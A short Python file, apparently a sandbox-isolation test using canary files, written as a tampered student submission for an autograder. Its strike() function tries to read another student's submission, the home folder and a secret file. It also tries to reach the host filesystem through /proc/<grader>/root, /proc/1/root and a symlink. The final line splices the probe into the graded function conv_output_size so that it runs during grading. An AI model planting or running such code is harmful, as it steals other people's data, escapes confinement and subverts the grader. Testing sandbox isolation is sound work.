"""Read another student's submission, the person's home folder and a secret beside them.
control = true
"""


def strike():
    attempt("the neighbour's", lambda: open(CANARY["neighbour"]).read()[-200:])
    attempt("the home folder", lambda: [n for n in os.listdir(CANARY["home"]) if "canary" in n])
    attempt("a secret file", lambda: open(CANARY["file"]).read())
    above = os.path.dirname(CANARY["file"])
    attempt("the folder above", lambda: os.listdir(above))
    attempt("through /proc", lambda: os.listdir(f"/proc/{CANARY['grader']}/root{above}"))
    attempt("through pid 1", lambda: os.listdir(f"/proc/1/root{above}"))
    attempt("through a link", lambda: (os.symlink(CANARY["file"], "link"), open("link").read())[1])


conv_output_size = first(strike, conv_output_size)
